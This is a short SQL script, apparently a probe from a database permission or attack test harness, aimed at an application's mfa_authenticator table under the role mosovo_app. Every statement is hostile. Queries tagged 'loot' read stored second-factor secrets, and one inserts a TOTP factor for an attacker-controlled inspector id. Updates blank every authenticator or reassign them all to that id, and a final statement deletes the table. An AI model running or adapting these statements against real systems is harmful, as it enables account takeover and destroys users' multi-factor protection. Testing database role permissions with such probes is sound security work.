-- Read, move, copy and remove second factors as the role of the pages.
-- role: mosovo_app
-- damage: select count(*) from mfa_authenticator where data = '{}'
/* loot */ select count(*) from mfa_authenticator;
/* loot */ select data::text from mfa_authenticator limit 1;
insert into mfa_authenticator (user_id, type, data, created_at) values ('{inspector_id}', 'totp', '{}', now());
update mfa_authenticator set data = '{}';
update mfa_authenticator set user_id = '{inspector_id}';
delete from mfa_authenticator;
